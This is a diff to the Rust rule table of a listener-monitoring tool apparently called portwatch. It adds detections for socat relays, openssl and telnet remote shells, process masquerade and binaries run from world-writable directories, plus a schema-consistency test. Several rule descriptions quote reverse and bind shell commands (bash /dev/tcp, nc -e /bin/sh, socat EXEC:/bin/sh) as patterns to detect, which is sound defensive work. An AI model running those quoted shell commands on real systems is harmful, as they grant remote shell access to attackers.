@@ -6,7 +6,10 @@ use std::fmt::Write as _;
 
 use super::{
     BACKDOOR_PORTS, CLOSE_WAIT_RISES, Severity,
-    program::{INTERPRETERS, KERNEL_THREADS, NETCATS, SHELLS, WEB_SERVERS},
+    disguise::{DAEMONS, KERNEL_THREADS},
+    place::TOOLCHAIN_DIRS,
+    program::{INTERPRETERS, NETCATS, SHELLS, WEB_SERVERS},
+    stdio::LAUNCHERS,
 };
 
 /// A rule and the findings it makes.
@@ -53,16 +56,32 @@ pub const SHELL_LISTENER: Rule = Rule {
 
 pub const INLINE_INTERPRETER: Rule = Rule {
     name: "inline-interpreter-listener",
-    fires_on: "{interpreters} listening or accepting from an inline program ({inline_flags}) given among its own options, not a script or a module (`python3 -m http.server` and `python3 app.py -c conf` stay quiet)",
+    fires_on: "{interpreters} listening or accepting from a program given on its command line ({inline_flags}, or awk's first operand) or on standard input (`-`, or no script: a program piped in from a download), not from a script or a module. The command line is read as the interpreter reads it: combined short options (`python3 -Ic`, `perl -we`), values attached or apart (`-Wignore`, `-W ignore`), `--`; `python3 -m http.server`, `php -S` and `python3 app.py -c conf` stay quiet",
     forms: &[(Severity::High, Technique::Interpreter)],
 };
 
 pub const NETCAT_LISTENER: Rule = Rule {
     name: "netcat-listener",
-    fires_on: "{netcats} listening; **critical** when it runs a command for its peer (`-e`, `-c`, `--exec`, `--sh-exec`, `EXEC:`, `SYSTEM:`)",
+    fires_on: "{netcats} listening, known by content (a copy under any name is still netcat) or by name, busybox's `nc` applet too; **critical** when it runs a command for its peer (`-e`, `-c`, `--exec`, `--sh-exec`, `--lua-exec`, `EXEC:`, `SYSTEM:`). A socat relay (two network addresses, nothing run) is `relay-listener` instead",
     forms: &[
         (Severity::High, Technique::Id("T1571")),
         (Severity::Critical, Technique::Id("T1059")),
+    ],
+};
+
+pub const RELAY_LISTENER: Rule = Rule {
+    name: "relay-listener",
+    fires_on: "socat listening to relay connections to another network address (`socat TCP-LISTEN:8080,fork TCP:10.0.0.5:80`), running no program: a proxy, which may carry an attacker's traffic past the network's rules",
+    forms: &[(Severity::Medium, Technique::Id("T1090"))],
+};
+
+pub const REMOTE_SHELL_TOOL: Rule = Rule {
+    name: "remote-shell-tool",
+    fires_on: "a listener that serves a shell, or a channel to one, and that no other rule names (GTFOBins' bind shells beyond netcat and the interpreters): `openssl s_server` (a TLS test server whose `-quiet` console a shell is piped through), a telnet server (telnetd, busybox's `telnetd` applet), **critical** when told to log its peers into a shell (`-l /bin/sh`). awk's `/inet/tcp` bind shell is an inline program (`inline-interpreter-listener`)",
+    forms: &[
+        (Severity::High, Technique::Id("T1573.002")),
+        (Severity::High, Technique::Id("T1021")),
+        (Severity::Critical, Technique::Id("T1059.004")),
     ],
 };
 
@@ -77,8 +96,25 @@ pub const FILELESS: Rule = Rule {
 
 pub const KERNEL_THREAD_NAME: Rule = Rule {
     name: "kernel-thread-name",
-    fires_on: "a user process (it has an executable) named like a kernel thread: {kernel_threads}",
+    fires_on: "a user process (it has an executable) whose command name or argv[0] (as it is and as it was started) looks like a kernel thread's: in brackets as ps shows them (`[kworker/1:2]`), or starting {kernel_threads}",
     forms: &[(Severity::High, Technique::Id("T1036.004"))],
+};
+
+pub const MASQUERADE: Rule = Rule {
+    name: "masquerade",
+    fires_on: "a listener whose command name or argv[0] (as it is and as it was started: `exec -a`, `$0`, setproctitle) claims a well-known daemon ({daemons}; a process title such as `sshd: root@pts/0` claims `sshd`) while the program, known by content first, is another (a daemon's own versions and parts, `php-fpm8.2`, `sshd-session`, are itself)",
+    forms: &[(Severity::High, Technique::Id("T1036.005"))],
+};
+
+pub const SUSPICIOUS_LOCATION: Rule = Rule {
+    name: "suspicious-location",
+    fires_on: "a new listener whose executable, or whose interpreter's script, lives in /tmp, /var/tmp, /dev/shm, /run/user or any directory anyone may write to as the process sees it (its container's own), **high**; or in a hidden directory, **medium** (not the toolchains' {toolchain_dirs}). One level more (critical, high) when the user is root or a system account (uid below 1000, nobody)",
+    forms: &[
+        (Severity::High, Technique::Id("T1105")),
+        (Severity::Critical, Technique::Id("T1105")),
+        (Severity::Medium, Technique::Id("T1564.001")),
+        (Severity::High, Technique::Id("T1564.001")),
+    ],
 };
 
 pub const BACKDOOR_PORT: Rule = Rule {
@@ -107,7 +143,7 @@ pub const WEBSHELL: Rule = Rule {
 
 pub const SOCKET_STDIO: Rule = Rule {
     name: "socket-stdio",
-    fires_on: "a program exec'd with an IPv4/IPv6 socket as stdin, stdout or stderr: what a reverse shell (`bash -i >& /dev/tcp/HOST/PORT 0>&1`, python's `os.dup2(s.fileno(), 0..2)` then `subprocess.call([\"/bin/sh\",\"-i\"])`) and a bind shell (`nc.traditional -l -e /bin/sh`, `socat TCP-LISTEN:P EXEC:/bin/sh,nofork`) start with. The exec hook reads descriptors 0-2 of the new image (after close-on-exec), so no syscall more is traced. It makes an `exec` record; the first exec on a socket is judged, and later ones on the same socket (what the shell runs) are reported with `session` and judged again only if worse. Critical for a shell, high for an interpreter, medium otherwise (an inetd-style service, systemd `Accept=yes` with `StandardInput=socket`). Unix sockets (journald's stdout, socketpairs) and pipes are not IP sockets and stay quiet; so does a shell behind a relay that gives it a socketpair, pipes or a pty (socat's default `EXEC:`, `mkfifo` pipelines, python's `pty.spawn`): there the relay's `netcat-listener` finding, or nothing for an outbound relay, is what remains",
+    fires_on: "a program exec'd with an IPv4/IPv6 socket as stdin, stdout or stderr: what a reverse shell (`bash -i >& /dev/tcp/HOST/PORT 0>&1`, python's `os.dup2(s.fileno(), 0..2)` then `subprocess.call([\"/bin/sh\",\"-i\"])`) and a bind shell (`nc.traditional -l -e /bin/sh`, `socat TCP-LISTEN:P EXEC:/bin/sh,nofork`) start with. The exec hook reads descriptors 0-2 of the new image (after close-on-exec), so no syscall more is traced. It makes an `exec` record; the first exec on a socket is judged, and later ones on the same socket (what the shell runs) are reported with `session` and judged again only if worse. Critical for a shell, high for an interpreter, medium otherwise; quiet for a server's own per-connection process (sshd re-executing itself, or its `sshd-session`: the parent's program, or one named after it) and for a service an inetd-style launcher started per connection (its parent {launchers}; systemd for `Accept=yes` units), unless what runs is a shell or an interpreter. Unix sockets (journald's stdout, socketpairs) and pipes are not IP sockets and stay quiet; so does a shell behind a relay that gives it a socketpair, pipes or a pty (socat's default `EXEC:`, `mkfifo` pipelines, python's `pty.spawn`): there the relay's `netcat-listener` finding, or nothing for an outbound relay, is what remains",
     forms: &[
         (Severity::Critical, Technique::Id("T1059.004")),
         (Severity::High, Technique::Interpreter),
@@ -134,12 +170,16 @@ pub const IO_URING_LISTENER: Rule = Rule {
 };
 
 /// Every rule, in the README's order.
-pub const RULES: [&Rule; 13] = [
+pub const RULES: [&Rule; 17] = [
     &SHELL_LISTENER,
     &INLINE_INTERPRETER,
     &NETCAT_LISTENER,
+    &RELAY_LISTENER,
+    &REMOTE_SHELL_TOOL,
     &FILELESS,
     &KERNEL_THREAD_NAME,
+    &MASQUERADE,
+    &SUSPICIOUS_LOCATION,
     &BACKDOOR_PORT,
     &PRIVILEGED_PORT,
     &REUSEPORT_HIJACK,
@@ -168,10 +208,12 @@ fn quoted(items: impl IntoIterator<Item = impl AsRef<str>>) -> Vec<String> {
 
 /// What a rule fires on, its lists filled in.
 fn fires_on(rule: &Rule) -> String {
-    let mut flags: Vec<&str> = Vec::new();
+    let mut flags: Vec<String> = Vec::new();
     for i in &INTERPRETERS {
-        for f in i.inline {
-            if !flags.contains(f) {
+        let short = i.syntax.inline.iter().map(|c| format!("-{c}"));
+        let long = i.syntax.inline_long.iter().map(|l| format!("--{l}"));
+        for f in short.chain(long) {
+            if !flags.contains(&f) {
                 flags.push(f);
             }
         }
@@ -184,7 +226,10 @@ fn fires_on(rule: &Rule) -> String {
         .replace("{inline_flags}", &quoted(flags).join(", "))
         .replace("{netcats}", &either(&quoted(NETCATS)))
         .replace("{web_servers}", &WEB_SERVERS.join(", "))
-        .replace("{kernel_threads}", &KERNEL_THREADS.join(", "))
+        .replace("{kernel_threads}", &either(&quoted(KERNEL_THREADS)))
+        .replace("{daemons}", &DAEMONS.join(", "))
+        .replace("{launchers}", &either(&quoted(LAUNCHERS)))
+        .replace("{toolchain_dirs}", &quoted(TOOLCHAIN_DIRS).join(", "))
         .replace("{backdoor_ports}", &ports.join(", "))
         .replace("{close_wait_rises}", &CLOSE_WAIT_RISES.to_string())
 }
@@ -270,6 +315,39 @@ mod tests {
             &README[from..to],
             want,
             "the README's detections table differs from judge/rules/table.rs"
+        );
+    }
+
+    /// The output schema's list of detection names is the rule table's.
+    #[test]
+    fn the_schema_names_every_rule_and_no_other() {
+        const SCHEMA: &str = include_str!("../../../../schema/portwatch.schema.json");
+        fn find(v: &serde_json::Value) -> Option<Vec<String>> {
+            match v {
+                serde_json::Value::Object(m) => {
+                    let names = m.get("enum").and_then(|e| e.as_array());
+                    if let Some(e) = names.filter(|e| e.iter().any(|n| n == "shell-listener")) {
+                        return Some(
+                            e.iter()
+                                .filter_map(|n| n.as_str())
+                                .map(Into::into)
+                                .collect(),
+                        );
+                    }
+                    m.values().find_map(find)
+                }
+                serde_json::Value::Array(a) => a.iter().find_map(find),
+                _ => None,
+            }
+        }
+        let schema: serde_json::Value = serde_json::from_str(SCHEMA).unwrap();
+        let mut listed = find(&schema).expect("the schema's detection names");
+        let mut rules: Vec<String> = RULES.iter().map(|r| r.name.to_owned()).collect();
+        listed.sort();
+        rules.sort();
+        assert_eq!(
+            listed, rules,
+            "schema/portwatch.schema.json's detection names"
         );
     }
 
